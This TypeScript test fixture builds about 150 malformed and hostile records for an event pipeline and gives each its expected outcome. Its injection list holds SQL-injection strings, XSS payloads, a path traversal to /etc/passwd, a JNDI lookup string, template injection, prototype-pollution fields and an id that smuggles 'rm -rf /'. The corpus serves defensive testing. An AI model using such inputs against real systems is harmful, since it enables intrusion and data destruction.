import { randomBytes } from 'node:crypto';
import type { DeadLetterReason } from '@tenant-analytics/domain';
import type { AccountableRecord } from '@tenant-analytics/pipeline-harness';

/** One hostile record and what the pipeline owes it: enrichment (`valid`) or a dead letter with this reason. */
export interface CorpusEntry {
  /** What is wrong (or odd) with it, e.g. `nbJobs as string`. */
  readonly kind: string;
  readonly data: Uint8Array;
  readonly partitionKey: string;
  readonly expected: 'valid' | DeadLetterReason;
  /** For valid JSON entries: the eventID the enriched record will carry. */
  readonly eventID?: string;
}

/** What the corpus is built around. */
export interface CorpusOptions {
  /** The clock the processor will compare dates with (roughly). */
  readonly now: Date;
  /** Makes eventIDs and user ids unique per run. */
  readonly runId: string;
  /** Companies of the tenant data set, used by the entries that must pass the lookup. */
  readonly knownCompanies: readonly string[];
}

const DAY_MS = 86_400_000;
const KIB = 1024;
/** Kinesis takes records up to 1 MiB (data + partition key); the processor's default limit is 64 KiB. */
export const KINESIS_MAX_RECORD_BYTES = 1024 * KIB;

const bytes = (text: string): Uint8Array => Buffer.from(text, 'utf8');

/**
 * At least 150 distinct malformed or hostile job-event records, each with the outcome ARCHITECTURE.md
 * §2 gives it: truncated and invalid UTF-8, wrong types, huge, negative and zero counts, dates far in
 * the future or past, payloads up to 1 MB, deeply nested JSON, unknown fields (valid), CSV with
 * quotes and extra columns, SQL/HTML/template-looking strings and unknown companies. The expected
 * reasons are written down here, independently of the processor's decoder (a unit test compares).
 */
export function badInputCorpus(options: CorpusOptions): CorpusEntry[] {
  const { now, runId } = options;
  const company = (index: number): string => options.knownCompanies[index % options.knownCompanies.length] ?? 'comp_1';
  const hourAgo = new Date(now.getTime() - 3_600_000).toISOString();
  const entries: CorpusEntry[] = [];
  let serial = 0;
  const add = (kind: string, expected: CorpusEntry['expected'], data: Uint8Array | string, partitionKey = `bad-${entries.length}`): void => {
    entries.push({ kind, expected, data: typeof data === 'string' ? bytes(data) : data, partitionKey });
  };
  /** A JSON event whose fields are overridden by `fields` (raw JSON text per field, `undefined` = left out). */
  const json = (fields: Readonly<Record<string, string | undefined>>): string => {
    serial += 1;
    const base: Record<string, string | undefined> = {
      companyID: JSON.stringify(company(serial)),
      userID: JSON.stringify(`u_${runId}_${serial}`),
      nbJobs: '2',
      creationDate: JSON.stringify(hourAgo),
      eventID: JSON.stringify(`${runId}-bad-${serial}`),
    };
    const merged = { ...base, ...fields };
    return `{${Object.entries(merged)
      .filter(([, value]) => value !== undefined)
      .map(([name, value]) => `${JSON.stringify(name)}:${value}`)
      .join(',')}}`;
  };
  /** A valid JSON event with extras: owed an enriched record under its eventID. */
  const valid = (
    kind: string,
    odd: { readonly extra?: string; readonly fields?: Readonly<Record<string, string | undefined>>; readonly prefix?: Uint8Array; readonly eventID?: string },
  ): void => {
    serial += 1;
    const eventID = odd.eventID ?? `${runId}-ok-${serial}`;
    const companyID = company(serial);
    const text = json({ companyID: JSON.stringify(companyID), eventID: JSON.stringify(eventID), ...odd.fields });
    const data = bytes(odd.extra === undefined ? text : text.replace(/}$/, `,${odd.extra}}`));
    entries.push({ kind, expected: 'valid', data: odd.prefix === undefined ? data : Buffer.concat([odd.prefix, data]), partitionKey: companyID, eventID });
  };
  const csv = (kind: string, expected: CorpusEntry['expected'], line: string): void => add(kind, expected, line, company(serial++));
  const iso = (offsetMs: number): string => JSON.stringify(new Date(now.getTime() + offsetMs).toISOString());

  // Truncated JSON: every proper prefix of an object lacks its closing brace.
  const whole = json({});
  for (let cut = 1; cut <= 20; cut++) add(`truncated JSON at ${cut}/21`, 'malformed-json', whole.slice(0, Math.floor((whole.length * cut) / 21)));

  // Not UTF-8.
  const invalidUtf8: readonly [string, number[]][] = [
    ['lone continuation byte', [0x80]],
    ['0xFF byte', [0xff]],
    ['overlong slash', [0xc0, 0xaf]],
    ['overlong A', [0xc1, 0x81]],
    ['UTF-16 surrogate', [0xed, 0xa0, 0x80]],
    ['beyond U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
    ['5-byte sequence', [0xf8, 0x88, 0x80, 0x80, 0x80]],
    ['gzip header', [0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00]],
    ['UTF-16LE with BOM', [0xff, 0xfe, ...Buffer.from('{"companyID":"comp_1"}', 'utf16le')]],
  ];
  for (const [kind, sequence] of invalidUtf8) add(`invalid UTF-8: ${kind}`, 'invalid-utf8', Uint8Array.from(sequence));
  add('invalid UTF-8: truncated multi-byte at the end', 'invalid-utf8', Buffer.concat([bytes(json({})), Uint8Array.of(0xe2, 0x82)]));
  add('invalid UTF-8: Latin-1 é in userID', 'invalid-utf8', Buffer.concat([bytes('{"companyID":"comp_1","userID":"caf'), Uint8Array.of(0xe9), bytes('","nbJobs":1}')]));
  add('invalid UTF-8: byte 0xFE inside a string', 'invalid-utf8', Buffer.concat([bytes('{"companyID":"comp_1","userID":"u'), Uint8Array.of(0xfe), bytes('","nbJobs":1}')]));

  // Wrong types.
  const wrongTypes: readonly [string, Record<string, string>][] = [
    ['nbJobs as string', { nbJobs: '"2"' }],
    ['nbJobs true', { nbJobs: 'true' }],
    ['nbJobs false', { nbJobs: 'false' }],
    ['nbJobs null', { nbJobs: 'null' }],
    ['nbJobs array', { nbJobs: '[1]' }],
    ['nbJobs object', { nbJobs: '{"n":1}' }],
    ['nbJobs fraction', { nbJobs: '1.5' }],
    ['nbJobs small fraction', { nbJobs: '0.5' }],
    ['nbJobs overflowing to Infinity', { nbJobs: '1e400' }],
    ['companyID number', { companyID: '1' }],
    ['companyID null', { companyID: 'null' }],
    ['companyID true', { companyID: 'true' }],
    ['companyID array', { companyID: '["comp_1"]' }],
    ['companyID object', { companyID: '{"id":"comp_1"}' }],
    ['userID number', { userID: '42' }],
    ['userID array', { userID: '[]' }],
    ['userID false', { userID: 'false' }],
    ['creationDate epoch millis', { creationDate: String(now.getTime()) }],
    ['creationDate null', { creationDate: 'null' }],
    ['creationDate true', { creationDate: 'true' }],
    ['creationDate object', { creationDate: '{"$date":"2026-01-01"}' }],
    ['eventID number', { eventID: '5' }],
    ['eventID object', { eventID: '{}' }],
    ['eventID array', { eventID: '["a"]' }],
    ['sentAt number', { sentAt: '123' }],
  ];
  for (const [kind, fields] of wrongTypes) add(`wrong type: ${kind}`, 'bad-type', json(fields));
  add('two events in an array', 'bad-type', `[${json({})},${json({})}]`);
  add('empty array', 'bad-type', '[]');
  for (const scalar of ['null', '42', 'true', '"comp_1,user_1,1"']) add(`JSON scalar ${scalar}`, 'bad-type', scalar);

  // Missing fields.
  add('no companyID', 'missing-field', json({ companyID: undefined }));
  add('no userID', 'missing-field', json({ userID: undefined }));
  add('no nbJobs', 'missing-field', json({ nbJobs: undefined }));
  add('empty object', 'missing-field', '{}');
  add('only an eventID', 'missing-field', `{"eventID":"${runId}-only"}`);
  csv('CSV without companyID', 'missing-field', `,u_${runId}_c1,1`);
  csv('CSV without userID', 'missing-field', 'comp_1,,1');
  csv('CSV without nbJobs', 'missing-field', `comp_1,u_${runId}_c2,`);

  // Empty.
  for (const [kind, text] of [
    ['a space', ' '],
    ['a newline', '\n'],
    ['mixed whitespace', '\t\r\n '],
    ['no-break space', '\u00a0'],
    ['line separator', '\u2028'],
    ['only a byte order mark', '\ufeff'],
  ] as const) {
    add(`empty: ${kind}`, 'empty-record', text);
  }

  // Counts out of range, huge numbers.
  for (const value of ['0', '-0', '-1', '-100000', '-1e20', '100001', '1000000', '1e15', '9007199254740993', '1e308', '18446744073709551616']) {
    add(`nbJobs ${value}`, 'out-of-range', json({ nbJobs: value }));
  }

  // Dates out of range: the window is [now − 365 d, now + 5 min].
  const outOfRangeDates: readonly [string, string][] = [
    ['10 minutes ahead', iso(10 * 60_000)],
    ['a day ahead', iso(DAY_MS)],
    ['a year ahead', iso(366 * DAY_MS)],
    ['year 2999', '"2999-12-31T00:00:00Z"'],
    ['year 9999', '"9999-12-31T23:59:59Z"'],
    ['366 days old', iso(-366 * DAY_MS)],
    ['epoch', '"1970-01-01T00:00:00Z"'],
    ['year 1900', '"1900-01-01T00:00:00+01:00"'],
    ['year 1000', '"1000-06-15T12:00:00Z"'],
    ['year 1', '"0001-01-01T00:00:00Z"'],
  ];
  for (const [kind, value] of outOfRangeDates) add(`creationDate ${kind}`, 'out-of-range', json({ creationDate: value }));

  // Dates that are not ISO-8601 date-times with a zone.
  for (const [kind, value] of [
    ['month 13', '"2026-13-01T00:00:00Z"'],
    ['February 30', '"2026-02-30T00:00:00Z"'],
    ['leap second', '"2026-06-30T23:59:60Z"'],
    ['no zone', '"2026-11-25T10:00:00"'],
    ['date only', '"2026-11-25"'],
    ['a word', '"yesterday"'],
    ['empty string', '""'],
    ['European format', '"25/11/2026 10:00"'],
    ['epoch seconds as string', '"1700000000"'],
    ['zone +25:00', '"2026-11-25T10:00:00+25:00"'],
    ['RFC 2822', '"Tue, 25 Nov 2026 10:00:00 GMT"'],
    ['extended year', '"+275760-09-13T00:00:00.000Z"'],
  ] as const) {
    add(`creationDate ${kind}`, 'bad-format', json({ creationDate: value }));
  }
  add('sentAt not a date', 'bad-format', json({ sentAt: '"soon"' }));
  add('eventID empty', 'bad-format', json({ eventID: '""' }));
  add('eventID of 200 characters', 'bad-format', json({ eventID: JSON.stringify('e'.repeat(200)) }));

  // Large payloads: over the processor's 64 KiB limit, up to Kinesis's 1 MiB.
  const padded = (size: number): string => {
    const head = json({}).replace(/}$/, ',"padding":"');
    return `${head}${'p'.repeat(size - head.length - 2)}"}`;
  };
  add('64 KiB + 1 of valid JSON', 'too-large', padded(64 * KIB + 1));
  add('1 MB of valid JSON', 'too-large', padded(1_000_000));
  add('1 MB userID', 'too-large', json({ userID: JSON.stringify('u'.repeat(1_000_000)) }));
  add('1 MB of random bytes as base64', 'too-large', randomBytes(750_000).toString('base64'));
  add('just under 1 MiB of random binary', 'too-large', randomBytes(KINESIS_MAX_RECORD_BYTES - 64));
  add('200 KB of nested arrays', 'too-large', `{"companyID":"comp_1","userID":"u","nbJobs":1,"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`);

  // Deep nesting within the size limit.
  add('top-level array nested 20000 deep', 'bad-type', `${'['.repeat(20_000)}${']'.repeat(20_000)}`);
  add('companyID nested 10000 deep', 'bad-type', json({ companyID: `${'['.repeat(10_000)}"comp_1"${']'.repeat(10_000)}` }));
  add('nbJobs as objects nested 5000 deep', 'bad-type', json({ nbJobs: `${'{"n":'.repeat(5_000)}1${'}'.repeat(5_000)}` }));
  valid('unknown field of arrays nested 20000 deep', { extra: `"deep":${'['.repeat(20_000)}${']'.repeat(20_000)}` });
  valid('unknown field of objects nested 5000 deep', { extra: `"deep":${'{"a":'.repeat(5_000)}null${'}'.repeat(5_000)}` });

  // Unknown fields are ignored, and other oddities that are still valid.
  valid('unknown string field', { extra: '"source":"mobile"' });
  valid('unknown fields of every type', { extra: '"n":1,"b":true,"z":null,"a":[1,"x"],"o":{"k":"v"}' });
  valid('__proto__ field (prototype pollution attempt)', { extra: '"__proto__":{"nbJobs":100000,"admin":true}' });
  valid('constructor.prototype field', { extra: '"constructor":{"prototype":{"polluted":true}}' });
  valid('lower-case companyId beside companyID', { extra: '"companyId":"comp_999999"' });
  valid('100 unknown fields', { extra: Array.from({ length: 100 }, (_, i) => `"f${i}":${i}`).join(',') });
  valid('unicode field names', { extra: '"名前":"テスト","émoji😀":"✓"' });
  valid('nbJobs given twice, the last one counts', { extra: '"nbJobs":3' });
  valid('HTML in an unknown field', { extra: '"note":"<script>alert(1)</script>"' });
  valid('byte order mark before the JSON', { prefix: Uint8Array.of(0xef, 0xbb, 0xbf) });
  valid('nbJobs 1.0 (an integer in JSON)', { fields: { nbJobs: '1.0' } });
  valid('nbJobs at the maximum', { fields: { nbJobs: '100000' } });
  valid('creationDate with an offset', { fields: { creationDate: JSON.stringify(hourAgo.replace('Z', '+00:00')) } });
  valid('creationDate with nanoseconds', { fields: { creationDate: JSON.stringify(hourAgo.replace(/\.\d+Z$/, '.123456789Z')) } });
  valid('no creationDate (arrival time)', { fields: { creationDate: undefined } });
  valid('userID that looks like an e-mail', { fields: { userID: JSON.stringify(`u_${runId}@example.com`) } });
  valid('eventID with HTML', { eventID: `<b>${runId}</b>` });
  valid('eventID that looks like a path', { eventID: `../../${runId}/etc/passwd` });

  // Other syntax mistakes.
  for (const [kind, text] of [
    ['two objects back to back', `${json({})}${json({})}`],
    ['JSON lines', `${json({})}\n${json({})}`],
    ['single quotes', json({}).replaceAll('"', "'")],
    ['trailing comma', json({}).replace(/}$/, ',}')],
    ['trailing comment', `${json({})} // sent by v2`],
    ['NaN literal', json({ nbJobs: 'NaN' })],
    ['unquoted keys', '{companyID:"comp_1",userID:"u",nbJobs:1}'],
    ['missing closing brace only', json({}).slice(0, -1)],
    ['extra closing brace', `${json({})}}`],
  ] as const) {
    add(`malformed JSON: ${kind}`, 'malformed-json', text);
  }
  add('malformed JSON: UTF-16LE without BOM', 'malformed-json', Buffer.from(json({}), 'utf16le'));

  // CSV, quoted and not.
  csv('CSV with quoted fields', 'valid', `"comp_2","u_${runId}_q1","2"`);
  csv('CSV with blanks around fields', 'valid', ` comp_3 , u_${runId}_q2 , 3 `);
  csv('CSV with a date and CRLF', 'valid', `comp_4,u_${runId}_q3,4,${hourAgo}\r\n`);
  csv('CSV fully quoted with a date', 'valid', `"comp_5","u_${runId}_q4","5","${hourAgo}"`);
  csv('CSV with 5 columns', 'malformed-csv', `comp_1,u_${runId}_x1,1,${hourAgo},web`);
  csv('CSV with 10 columns', 'malformed-csv', 'a,b,c,d,e,f,g,h,i,j');
  csv('CSV with 2 columns', 'malformed-csv', `comp_1,u_${runId}_x2`);
  csv('CSV with an unbalanced quote', 'malformed-csv', `"comp_1,u_${runId}_x3,1`);
  csv('CSV with text after a closing quote', 'malformed-csv', `"comp_1"x,u_${runId}_x4,1`);
  csv('CSV with a quote inside an unquoted field', 'malformed-csv', `co"mp_1,u_${runId}_x5,1`);
  csv('CSV with two lines', 'malformed-csv', `comp_1,u_${runId}_x6,1\ncomp_2,u_${runId}_x7,1`);
  csv('CSV with a header line', 'malformed-csv', `companyID,userID,nbJobs\ncomp_1,u_${runId}_x8,1`);
  csv('semicolon-separated', 'malformed-csv', `comp_1;u_${runId}_x9;1`);
  csv('tab-separated', 'malformed-csv', `comp_1\tu_${runId}_x10\t1`);
  csv('XML', 'malformed-csv', '<event><companyID>comp_1</companyID></event>');
  csv('YAML', 'malformed-csv', 'companyID: comp_1\nuserID: u\nnbJobs: 1');
  csv('base64 of an event', 'malformed-csv', Buffer.from(json({})).toString('base64'));
  csv('CSV with a quoted comma in companyID', 'bad-format', `"comp,1",u_${runId}_x11,1`);
  csv('CSV with an escaped quote in userID', 'bad-format', `comp_1,"u""${runId}",1`);
  csv('CSV nbJobs 1e3', 'bad-type', `comp_1,u_${runId}_x12,1e3`);
  csv('CSV nbJobs +5', 'bad-type', `comp_1,u_${runId}_x13,+5`);
  csv('CSV nbJobs 0x10', 'bad-type', `comp_1,u_${runId}_x14,0x10`);
  csv('CSV nbJobs 1.0', 'bad-type', `comp_1,u_${runId}_x15,1.0`);
  csv('CSV nbJobs -3', 'out-of-range', `comp_1,u_${runId}_x16,-3`);
  csv('CSV nbJobs 0', 'out-of-range', `comp_1,u_${runId}_x17,0`);
  csv('CSV date far ahead', 'out-of-range', `comp_1,u_${runId}_x18,1,2999-01-01T00:00:00Z`);
  csv('CSV date without zone', 'bad-format', `comp_1,u_${runId}_x19,1,2026-11-25T10:00:00`);

  // SQL, HTML, template and path injection attempts in ids.
  const hostileIds: readonly [string, string][] = [
    ['companyID', "comp_1'; DROP TABLE tenants;--"],
    ['companyID', 'comp_1 OR 1=1'],
    ['companyID', '<script>alert(1)</script>'],
    ['companyID', '../../etc/passwd'],
    ['companyID', 'comp_1%00'],
    ['companyID', '${jndi:ldap://x.example/a}'],
    ['companyID', '{{7*7}}'],
    ['companyID', 'comp_1\u0000'],
    ['companyID', 'comp_1\n'],
    ['companyID', 'x'.repeat(65)],
    ['userID', '<img src=x onerror=alert(1)>'],
    ['userID', "' OR '1'='1"],
    ['userID', 'user_1; rm -rf /'],
    ['userID', "Robert'); DROP TABLE Students;--"],
    ['userID', 'javascript:alert(1)'],
    ['userID', 'u'.repeat(129)],
    ['userID', 'ユーザー'],
  ];
  for (const [field, value] of hostileIds) add(`${field} ${JSON.stringify(value).slice(0, 40)}`, 'bad-format', json({ [field]: JSON.stringify(value) }));

  // Well-formed ids of companies the tenant manager does not know.
  for (const id of ['comp_99999999', 'comp_10000', 'comp_-1', 'COMP_1', 'comp_1.0', 'comp_01', `unknown_${runId}`, 'a', 'z'.repeat(64), 'comp_1:extra', '...', '.', '..']) {
    add(`unknown company ${id.slice(0, 20)}`, 'unknown-company', json({ companyID: JSON.stringify(id) }), id);
  }
  return entries;
}

/** The corpus entry as a record the accounting understands. */
export function corpusRecord(entry: CorpusEntry): AccountableRecord {
  return {
    data: entry.data,
    ...(entry.eventID === undefined ? {} : { eventID: entry.eventID }),
    outcome: entry.expected === 'valid' ? { type: 'valid', outOfOrder: false } : { type: 'invalid', kind: entry.kind, reason: entry.expected },
  };
}
